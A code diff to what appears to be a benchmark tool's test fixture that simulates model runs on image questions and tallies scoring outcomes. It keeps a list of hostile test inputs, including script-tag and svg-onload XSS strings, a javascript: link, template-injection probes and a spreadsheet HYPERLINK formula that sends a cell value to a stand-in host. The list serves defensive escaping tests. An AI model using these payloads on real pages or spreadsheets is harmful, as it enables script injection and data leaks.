@@ -19,7 +19,7 @@ from PIL import Image, ImageDraw
 
 from answerable.core.benchmark import Benchmark, BenchmarkWriter, Ledger, Manifest, ProofRecord
 from answerable.core.codec import digest_bytes, encode_pretty
-from answerable.core.records import Abstain, Answer, Evidence, Group, Obligation, View
+from answerable.core.records import Abstain, Answer, Evidence, Group, Obligation, State, View
 from answerable.core.scores import (
     FORMAT,
     LOSSES,
@@ -36,7 +36,7 @@ from answerable.core.scores import (
 )
 from answerable.core.seeds import Stream
 
-STATES = "FSKCMI"
+STATES: tuple[State, ...] = ("F", "S", "K", "C", "M", "I")
 #: Each sets a flag if a page runs it.
 HOSTILE = (
     "<script>window.__hit=1</script>",
@@ -44,11 +44,11 @@ HOSTILE = (
     "</script><script>window.__hit=1</script>",
     "</style><script>window.__hit=1</script>",
     '"><svg onload=window.__hit=1>',
-    "$\\href{q\"><animate onbegin=window.__hit=1>}{k}$",
+    '$\\href{q"><animate onbegin=window.__hit=1>}{k}$',
     "<scratchpad>hidden</scratchpad> 12",
     "[link](javascript:window.__hit=1)",
     "<!--<script>\u2028window.__hit=1\u2029",
-    "=HYPERLINK(\"http://example.invalid/?\"&A1)",
+    '=HYPERLINK("http://example.invalid/?"&A1)',
     "{{ 7*7 }} {% raw %} ${7*7}",
     "\u202eevil\u202c \u0000\u0007 \ufeff",
 )
@@ -129,7 +129,7 @@ def make_group(number: int, *, scale: int = 1, noise: int = 0) -> tuple[Group, l
         views.append(
             View(
                 id=f"v{digest_bytes(f'{number} {letter}'.encode())[:12]}", group=name, source=source, split="test",
-                figure=f"fig-{number}", state=letter, question=question, obligation=duty,  # type: ignore[arg-type]
+                figure=f"fig-{number}", state=letter, question=question, obligation=duty,
                 evidence=Evidence(level="proved", proof=proof.digest(), note="sampled world, one edit"),
                 image_sha256=digest_bytes(image), width=360 * scale, height=240 * scale, renderer="fake 1.0",
             )
@@ -162,43 +162,50 @@ class Asked:
     why: str | None = None
 
 
+def _said(answer: str | None, reason: str = "as read from the picture") -> str:
+    return json.dumps({"answerable": answer is not None, "answer": answer, "reason": reason}, ensure_ascii=False)
+
+
 def behave(run: int, number: int, view: View) -> Asked:
     """What a run does with a view: fixed rules, so that every outcome and status occurs."""
-    duty = view.obligation
+    target = view.obligation.target if isinstance(view.obligation, Answer) else ""
     draw = Stream("behave", run, number, view.state).below(100)
-    target = duty.target if isinstance(duty, Answer) else ""
+    return (_strong, _weak, _always)[run](draw, number, target, HOSTILE[number % len(HOSTILE)], view.state)
 
-    def said(answer: str | None, reason: str = "as read from the picture") -> str:
-        return json.dumps({"answerable": answer is not None, "answer": answer, "reason": reason}, ensure_ascii=False)
 
-    hostile = HOSTILE[number % len(HOSTILE)]
-    if run == 2:
-        return Asked("correct", said(target), "complete") if target else Asked("false_acceptance", said("50"), "complete")
-    if run == 0:
-        if draw < (30 if view.state == "M" else 6):
-            return (
-                Asked("wrong_answer", said("11"), "complete") if target
-                else Asked("false_acceptance", said("42", hostile), "complete")
-            )  # fmt: skip
-        return Asked("correct", said(target or None, hostile), "complete")
-    # The weak run: incomplete, refuses, is cut off, hostile.
+def _strong(draw: int, number: int, target: str, hostile: str, state: str) -> Asked:
+    if draw >= (30 if state == "M" else 6):
+        return Asked("correct", _said(target or None, hostile), "complete")
+    if target:
+        return Asked("wrong_answer", _said("11"), "complete")
+    return Asked("false_acceptance", _said("42", hostile), "complete")
+
+
+def _always(draw: int, number: int, target: str, hostile: str, state: str) -> Asked:
+    return Asked("correct" if target else "false_acceptance", _said(target or "50"), "complete")
+
+
+def _weak(draw: int, number: int, target: str, hostile: str, state: str) -> Asked:
+    """Incomplete, refuses, is cut off, hostile."""
     if number >= 27:
         return Asked("not_run", None, "not_run", rule="")
-    if draw < 6:
-        return Asked("failed", None, "timeout" if draw < 3 else "server_error", rule="")
-    if draw < 14:
-        return Asked("invalid", hostile, "complete", rule="none", why="not one JSON object")
-    if draw < 18:
-        return Asked("invalid", None, "empty", rule="none", why="no text")
-    if draw < 22:
-        return Asked("invalid", '{"answerable": tr', "truncated", rule="none", why="cut off")
-    if draw < 25:
-        return Asked("invalid", "I cannot help with that.", "refused", rule="none", why="refused")
-    if target:
-        if draw < 45:
-            return Asked("wrong_answer", said(hostile), "complete", rule="json in a fence")
-        return Asked("false_rejection", said(None), "complete") if draw < 60 else Asked("correct", said(target), "complete")
-    return Asked("correct", said(None), "complete") if draw < 55 else Asked("false_acceptance", said("37"), "complete")
+    right = Asked("correct", _said(target or None), "complete")
+    wrong = Asked("wrong_answer", _said(hostile), "complete", rule="json in a fence")
+    shy = Asked("false_rejection", _said(None), "complete")
+    bold = Asked("false_acceptance", _said("37"), "complete")
+    steps = (
+        (3, Asked("failed", None, "timeout", rule="")),
+        (6, Asked("failed", None, "server_error", rule="")),
+        (14, Asked("invalid", hostile, "complete", rule="none", why="not one JSON object")),
+        (18, Asked("invalid", None, "empty", rule="none", why="no text")),
+        (22, Asked("invalid", '{"answerable": tr', "truncated", rule="none", why="cut off")),
+        (25, Asked("invalid", "I cannot help with that.", "refused", rule="none", why="refused")),
+        (45, wrong if target else right),
+        (55, shy if target else right),
+        (60, shy if target else bold),
+        (100, right if target else bold),
+    )
+    return next(asked for limit, asked in steps if draw < limit)
 
 
 _READING = {"failed": "failed", "not_run": "not_run", "invalid": "invalid"}
@@ -252,7 +259,7 @@ def _source(rows: list[dict[str, Any]], source: str) -> SourceScores:
     no_m = sum(any(r["state"] == "M" and not r["decision_right"] for r in held) for held in groups.values())
     losses = dict(zip(LOSSES, (whole, right - whole, len(groups) - right - no_m, no_m), strict=True))
 
-    def error(states: str) -> Figure:
+    def error(states: Sequence[str]) -> Figure:
         picked = [row for row in mine if row["state"] in states]
         return figure(sum(not row["decision_right"] for row in picked), len(picked))
 
@@ -261,10 +268,10 @@ def _source(rows: list[dict[str, Any]], source: str) -> SourceScores:
     tallies = []
     for letter in STATES:
         of = [row for row in mine if row["state"] == letter]
-        outcomes = {kind: n for kind in OUTCOMES if (n := sum(row["outcome"] == kind for row in of))}
+        outcomes: dict[str, int] = {kind: n for kind in OUTCOMES if (n := sum(row["outcome"] == kind for row in of))}
         tallies.append(StateTally(state=letter, views=len(of), failure=error(letter), outcomes=outcomes))
     return SourceScores(
-        source=source, level="proved", groups=count, views=len(mine), states=tuple(STATES),
+        source=source, level="proved", groups=count, views=len(mine), states=STATES,
         metrics={
             "J": figure(whole, count), "B": figure(right, count), "J_5": figure(whole, count),
             "B_5": figure(right, count), "E": error(STATES), "E_A": error("FSKC"), "E_M": error("M"),
